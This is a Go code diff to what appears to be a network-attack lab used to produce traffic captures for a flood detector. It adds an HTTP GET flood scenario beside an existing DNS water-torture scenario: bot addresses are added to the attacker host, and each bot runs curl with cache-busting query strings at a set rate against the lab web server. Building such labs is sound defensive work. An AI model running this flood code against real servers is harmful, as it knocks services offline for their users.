@@ -3,6 +3,7 @@ package lab
 import (
 	"encoding/binary"
 	"fmt"
+	"math"
 	"math/rand/v2"
 	"os"
 	"strings"
@@ -48,11 +49,20 @@ func init() {
 		&Scenario{
 			Name: "dns-water-torture", Difficulty: Medium,
 			Description: fmt.Sprintf("DNS water torture (Mirai on Dyn, 2016): %d bots on the LAN (the attacker's extra addresses .%d–.%d) ask the LAN resolver for random subdomains of %s, each name new, %d a second in all; the resolver answers every one NXDOMAIN.",
-				tortureBots, tortureFirstOctet, tortureFirstOctet+tortureBots-1, tortureDomain, tortureRate),
+				lanBots, lanBotFirstOctet, lanBotFirstOctet+lanBots-1, tortureDomain, tortureRate),
 			Tools: []string{"ip", "dig"}, Classes: []string{"flood.dns"}, MITRE: []string{"T1499.002"},
-			Attacker: hostPtr(hostAtk), AttackerAddrs: tortureAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
+			Attacker: hostPtr(hostAtk), AttackerAddrs: lanBotAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
 			Notes:  "the bots are addresses the attacker host adds to its LAN interface for the run (one MAC, as bots behind one switch port); srv's resolver is the hammered server (the victim domain's name servers are outside the lab)",
 			attack: tortureAttack,
+		},
+		&Scenario{
+			Name: "http-flood", Difficulty: Medium,
+			Description: fmt.Sprintf("HTTP GET flood: %d bots on the LAN (the attacker's extra addresses .%d–.%d) request %s from srv's web server, each over one kept-alive connection with a new query string every time, %d requests in all at %d a second or more; nginx answers every one.",
+				lanBots, lanBotFirstOctet, lanBotFirstOctet+lanBots-1, httpFloodPath, httpFloodRequests, 10*lanBots),
+			Tools: []string{"ip", "curl"}, Classes: []string{"flood.http"}, MITRE: []string{"T1499.002"},
+			Attacker: hostPtr(hostAtk), AttackerAddrs: lanBotAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
+			Notes:  "the bots are addresses the attacker host adds to its LAN interface for the run (one MAC); their requests are curl's (its own user agent), as cheap flood tools send them: only too many, all for one page",
+			attack: httpFloodAttack,
 		},
 		&Scenario{
 			Name: "memcached-amplification", Difficulty: Medium,
@@ -181,23 +191,28 @@ func writeAmplificationQuery(w workDir) (string, error) {
 	return p, nil
 }
 
-// The water torture: its bots, their pace and the victim domain.
+// The LAN bots of the water torture and the HTTP flood: addresses the
+// attacker adds to its LAN interface for the run.
 const (
-	tortureBots       = 30
-	tortureFirstOctet = 200
-	tortureRate       = 150
+	lanBots          = 30
+	lanBotFirstOctet = 200
+)
+
+// The water torture: its pace and the victim domain.
+const (
+	tortureRate = 150
 	// tortureMin is the fewest queries a run sends (faster, when its
 	// --duration is short): a flood is 1,000 or more.
 	tortureMin    = 1200
 	tortureDomain = "victim-dns.example"
 )
 
-// tortureAddrs are the attacker's addresses in the water torture: its own
-// and its bots'.
-func tortureAddrs() []string {
+// lanBotAddrs are the attacker's addresses in the water torture and the
+// HTTP flood: its own and its bots'.
+func lanBotAddrs() []string {
 	out := []string{hostAtk.IPv4().String()}
-	for i := range tortureBots {
-		out = append(out, hostAddr(lanNet4, byte(tortureFirstOctet+i)).String())
+	for i := range lanBots {
+		out = append(out, hostAddr(lanNet4, byte(lanBotFirstOctet+i)).String())
 	}
 	return out
 }
@@ -206,11 +221,9 @@ func tortureAddrs() []string {
 // has one dig, reading a batch, ask the resolver from each bot in turn for
 // a new random name under the victim domain.
 func tortureAttack(a *attackRun) error {
-	bots := tortureAddrs()[1:]
-	for _, b := range bots {
-		if err := a.run(hostAtk, "ip", "addr", "add", b+"/24", "dev", "eth0"); err != nil {
-			return err
-		}
+	bots, err := addLANBots(a)
+	if err != nil {
+		return err
 	}
 	rng := rand.New(rand.NewPCG(uint64(a.now().Unix()), 0x746f72))
 	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
@@ -232,4 +245,43 @@ func tortureAttack(a *attackRun) error {
 	return a.phase("random-subdomain queries", func() error {
 		return a.feed(hostAtk, dig, fifo, lines, min(time.Second/tortureRate, a.duration*4/5/time.Duration(len(lines))))
 	})
+}
+
+// addLANBots adds the bots' addresses to the attacker's LAN interface and
+// returns them.
+func addLANBots(a *attackRun) ([]string, error) {
+	bots := lanBotAddrs()[1:]
+	for _, b := range bots {
+		if err := a.run(hostAtk, "ip", "addr", "add", b+"/24", "dev", "eth0"); err != nil {
+			return nil, err
+		}
+	}
+	return bots, nil
+}
+
+// The HTTP flood: requests in all (over the detector's 3000), and the
+// page asked for (small: the capture is committed).
+const (
+	httpFloodRequests = 3150
+	httpFloodPath     = "/api/status.json"
+)
+
+// httpFloodAttack has each bot request the page from srv's nginx over one
+// kept-alive connection (curl's URL glob makes each query string new, as
+// cache-busting floods do), paced so that the flood takes about four
+// fifths of the run and no less than 10 requests a second a bot.
+func httpFloodAttack(a *attackRun) error {
+	bots, err := addLANBots(a)
+	if err != nil {
+		return err
+	}
+	perBot := httpFloodRequests / len(bots)
+	rate := max(10, int(math.Ceil(float64(perBot)/(a.duration.Seconds()*4/5))))
+	fns := make([]func() error, len(bots))
+	for i, b := range bots {
+		url := fmt.Sprintf("http://%s%s?b=%d&r=[1-%d]", hostServer.IPv4(), httpFloodPath, i, perBot)
+		argv := []string{"curl", "-s", "--interface", b, "--rate", fmt.Sprintf("%d/s", rate), "--max-time", "30", url}
+		fns[i] = func() error { return a.run(hostAtk, argv...) }
+	}
+	return a.phase("GET flood", func() error { return a.parallel(len(fns), fns) })
 }
